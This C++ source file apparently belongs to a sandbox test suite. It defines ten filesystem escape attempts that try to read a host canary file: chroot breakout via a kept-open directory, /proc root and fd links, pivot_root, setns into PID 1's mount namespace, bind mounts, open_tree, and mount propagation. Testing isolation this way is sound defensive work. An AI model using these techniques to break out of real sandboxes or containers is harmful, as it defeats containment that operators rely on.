// Out of the root directory: a file of the host, the canary, is to be read.
#include <fcntl.h>
#include <sched.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "attack/attempt.hpp"
#include "attack/files.hpp"

namespace attack {
namespace {

constexpr const char* kCanaryText = "canary of the host";

bool holds_canary(int directory, const std::string& path) {
  const File file(openat(directory, path.c_str(), O_RDONLY | O_CLOEXEC));
  char text[64] = "";
  return file && read(file.get(), text, sizeof text - 1) > 0 && contains(text, kCanaryText);
}

/// From here, from "/", and from as far up as ".." leads.
Outcome look(const Facts& facts) {
  const std::string path = facts["canary"];
  if (holds_canary(AT_FDCWD, path)) return let_through(path);
  std::string up = ".";
  for (int i = 0; i < 24; ++i, up += "/..")
    if (holds_canary(AT_FDCWD, up + path)) return let_through(up + path);
  return refused("no canary");
}

Outcome through_links_of_proc(const Facts& facts) {
  for (const std::string& pid : names_in("/proc"))
    for (const char* link : {"/root", "/cwd", "/root/..", "/cwd/../../../../../../../.."})
      if (holds_canary(AT_FDCWD, "/proc/" + pid + link + facts["canary"])) return let_through(pid + link);
  return refused("no canary");
}

Outcome through_descriptors(const Facts& facts) {
  for (const std::string& pid : names_in("/proc"))
    for (const std::string& fd : names_in("/proc/" + pid + "/fd"))
      for (const char* up : {"", "/..", "/../../../../../../../.."})
        if (holds_canary(AT_FDCWD, "/proc/" + pid + "/fd/" + fd + up + facts["canary"])) return let_through(fd);
  return refused("no canary");
}

/// The oldest trick: a directory above the new root stays open.
Outcome out_of_chroot(const Facts& facts) {
  const File root(open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  if (chroot(new_directory("jail").c_str()) != 0) return refused_errno();
  if (fchdir(root.get()) != 0) return refused_errno();
  for (int i = 0; i < 64 && chdir("..") == 0; ++i) {
  }
  if (chroot(".") != 0) return refused_errno();
  return look(facts);
}

Outcome under_the_root(const Facts& facts) {
  leave_mounts_behind();
  for (int i = 0; i < 8; ++i) {
    umount2("/", MNT_DETACH);
    if (look(facts).kind == Outcome::Kind::LetThrough) return look(facts);
    for (int up = 0; up < 8 && chdir("..") == 0; ++up) {
    }
    if (chroot(".") != 0) break;
  }
  return look(facts);
}

Outcome by_pivot(const Facts& facts) {
  leave_mounts_behind();
  const std::string place = new_directory("pivot");
  if (mount("tmpfs", place.c_str(), "tmpfs", 0, nullptr) != 0) return refused_errno();
  mkdir((place + "/old").c_str(), 0755);
  if (syscall(SYS_pivot_root, place.c_str(), (place + "/old").c_str()) != 0) return refused_errno();
  if (holds_canary(AT_FDCWD, "/old" + facts["canary"])) return let_through("/old");
  umount2("/old", MNT_DETACH);
  return look(facts);
}

/// setns(2) puts the process at the namespace's root, whatever covers it.
Outcome by_own_mount_namespace(const Facts& facts) {
  const File own(open("/proc/1/ns/mnt", O_RDONLY | O_CLOEXEC));
  if (setns(own.get(), CLONE_NEWNS) != 0) return refused_errno();
  return look(facts);
}

Outcome by_bind_of_parent(const Facts& facts) {
  leave_mounts_behind();
  const std::string place = new_directory("above");
  if (mount("/..", place.c_str(), nullptr, MS_BIND | MS_REC, nullptr) != 0) return refused_errno();
  return holds_canary(AT_FDCWD, place + facts["canary"]) ? let_through(place) : refused("no canary");
}

Outcome by_open_tree_of_root(const Facts& facts) {
  const File tree(static_cast<int>(syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* CLONE */ | O_CLOEXEC)));
  if (!tree) return refused_errno();
  for (const char* up : {"./..", "./../../../../../.."})
    if (holds_canary(tree.get(), up + facts["canary"])) return let_through(up);
  return refused("no canary");
}

/// A mount made in here must not show on the host: the test looks for it there.
Outcome mount_for_all_to_see(const Facts& facts) {
  if (mount(nullptr, "/", nullptr, MS_REC | MS_SHARED, nullptr) != 0) return refused_errno();
  mkdir("/shown", 0755);
  if (mount(facts["marker"].c_str(), "/shown", "tmpfs", 0, nullptr) != 0) return refused_errno();
  return not_there("the test looks");
}

}  // namespace

Attempts escape_attempts() {
  return {
      {"escape_as_it_is", look},
      {"escape_links_of_proc", through_links_of_proc},
      {"escape_descriptors", through_descriptors},
      {"escape_chroot", out_of_chroot},
      {"escape_under_the_root", under_the_root},
      {"escape_pivot_root", by_pivot},
      {"escape_setns", by_own_mount_namespace},
      {"escape_bind_above", by_bind_of_parent},
      {"escape_open_tree", by_open_tree_of_root},
      {"escape_mount_propagation", mount_for_all_to_see},
  };
}

}  // namespace attack
